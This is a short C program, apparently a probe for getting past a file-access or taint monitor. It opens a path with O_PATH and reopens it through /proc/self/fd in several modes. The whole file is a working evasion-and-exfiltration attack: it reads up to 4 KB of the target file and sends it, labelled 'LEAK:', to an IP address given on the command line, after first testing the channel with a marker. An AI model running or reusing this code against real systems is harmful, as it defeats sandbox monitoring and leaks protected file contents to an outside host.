// opath IP PATH MODE: O_PATH-open PATH, optionally unlink it, then reopen /proc/self/fd/N via O_CREAT (monitor route)
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>
#include <linux/openat2.h>
#include <errno.h>
#include "send.c"
int main(int argc,char**argv){
  const char*ip=argv[1],*path=argv[2],*mode=argv[3];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int p=open(path,O_PATH);
  printf("O_PATH open = %d %s\n",p,p<0?strerror(errno):"");
  if(strstr(mode,"unlink")) printf("unlink = %d %s\n",unlink(path),strerror(errno));
  char pp[64]; snprintf(pp,sizeof pp,"/proc/self/fd/%d",p);
  char l[256]={0}; readlink(pp,l,255); printf("link: %s\n",l);
  int fd;
  if(strstr(mode,"openat2")){struct open_how h={.flags=O_RDONLY}; fd=syscall(SYS_openat2,AT_FDCWD,pp,&h,sizeof h);}
  else if(strstr(mode,"plain")) fd=open(pp,O_RDONLY);
  else fd=open(pp,O_RDONLY|O_CREAT,0600);
  printf("reopen = %d %s\n",fd,fd<0?strerror(errno):"");
  if(fd<0) return 1;
  char buf[4096]; ssize_t n=read(fd,buf,4095); if(n<0)n=0; buf[n]=0; printf("READ %zd: %.40s\n",n,buf);
  char msg[4200]; int m=snprintf(msg,sizeof msg,"LEAK:%s",buf);
  printf("POST send: %d\n", send_buf(ip,msg,m));
}
